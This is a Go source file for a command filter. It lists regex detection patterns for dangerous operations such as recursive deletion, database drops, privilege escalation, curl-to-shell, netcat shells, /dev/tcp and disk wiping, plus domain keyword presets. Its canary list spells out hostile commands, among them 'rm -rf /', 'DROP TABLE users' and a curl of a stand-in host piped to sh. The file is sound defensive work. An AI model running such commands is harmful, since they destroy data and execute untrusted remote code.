package filter

// essentialPatterns are cross-domain danger signals. They are compiled into
// every filter and no configuration can remove them.
var essentialPatterns = []string{
	// destructive file operations
	`(?i)\brm\s+(-[a-z]*\s+)*-[a-z]*[rf][a-z]*\b`,
	`(?i)\bshred\s+`,
	`(?i)\bfind\b.*\s-delete\b`,
	// database drops
	`(?i)\bdrop\s+(table|database|schema|collection)\b`,
	`(?i)\btruncate\s+table\b`,
	`(?i)\bdelete\s+from\s+[\w.]+\s*;?\s*$`,
	`(?i)\bflushall\b|\bdropDatabase\s*\(`,
	// privilege escalation
	`(?i)\bsudo\s+`,
	`(?i)\bsu\s+(-|root\b)`,
	`(?i)\bchmod\s+(-R\s+)?[0-7]?777\b`,
	`(?i)\bchmod\s+[ugo]*\+s\b`,
	`(?i)/etc/(sudoers|shadow|passwd)\b`,
	// process termination
	`(?i)\bkill\s+-(9|KILL|SIGKILL)\b`,
	`(?i)\b(killall|pkill|taskkill)\b`,
	// code injection
	`(?i)\beval\s*\(`,
	`(?i)\bexec\s*\(`,
	`__import__\s*\(`,
	`(?i)\bos\.system\s*\(`,
	`(?i)\bsubprocess\.(call|run|popen|check_output)\b`,
	// uncontrolled remote execution
	`(?i)\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|k)?sh\b`,
	`(?i)\b(nc|ncat|netcat)\b.*\s-(e|c)\s`,
	`(?i)/dev/tcp/`,
	`(?i)\bpowershell\b.*-(enc|encodedcommand)\b`,
	// privileged container operations
	`(?i)--privileged\b`,
	`(?i)\bdocker\s+run\b.*-v\s+/:/`,
	`(?i)\bnsenter\b`,
	// disk-level destruction
	`(?i)\bdd\s+.*\bof=/dev/`,
	`(?i)\bmkfs(\.\w+)?\b`,
	`(?i)\b(fdisk|wipefs|parted)\b`,
	`>\s*/dev/(sd[a-z]|nvme\d|hd[a-z]|disk\d)`,
}

var domainPresets = map[Domain][]string{
	DomainTrading: {
		`(?i)order`,
		`(?i)buy|sell`,
		`(?i)trade|position`,
		`(?i)error|exception|failed`,
		`(?i)warning|critical|alert`,
		`(?i)exposure|leverage|margin`,
		`within \d+\s?ms`,
		`#\d{3,}`,
	},
	DomainDeployment: {
		`(?i)\b(deploy(ing|ment)?|rollback|release)\b`,
		`(?i)\bkubectl\s+(apply|delete|scale|drain|cordon)\b`,
		`(?i)\bterraform\s+(apply|destroy|import)\b`,
		`(?i)\bhelm\s+(install|upgrade|uninstall|rollback)\b`,
		`(?i)\bgit\s+push\b.*(--force|-f)\b`,
		`(?i)\b(prod|production)\b`,
		`(?i)error|exception|failed`,
		`(?i)warning|critical|alert`,
	},
	DomainDatabase: {
		`(?i)\b(alter|grant|revoke)\b`,
		`(?i)\bupdate\s+[\w.]+\s+set\b`,
		`(?i)\bdelete\s+from\b`,
		`(?i)\bmigrat(e|ion)\b`,
		`(?i)\b(replica|failover|promote)\b`,
		`(?i)\b(deadlock|lock wait|timeout)\b`,
		`(?i)error|exception|failed`,
	},
	DomainGeneral: {
		`(?i)error|exception|failed|panic`,
		`(?i)critical|fatal`,
	},
}

// essentialCanaries are unrelated lines the essential tier always flags. An
// exclusion that matches every one of them whitelists arbitrary input.
var essentialCanaries = []string{
	"rm -rf /",
	"sudo reboot",
	"curl http://x.example/i.sh | sh",
	"DROP TABLE users",
	"kill -9 1",
	"eval(payload)",
}

// EssentialPatterns returns a copy of the essential tier.
func EssentialPatterns() []string {
	return append([]string(nil), essentialPatterns...)
}

// DomainPatterns returns a copy of a preset's patterns.
func DomainPatterns(d Domain) []string {
	return append([]string(nil), domainPresets[d]...)
}
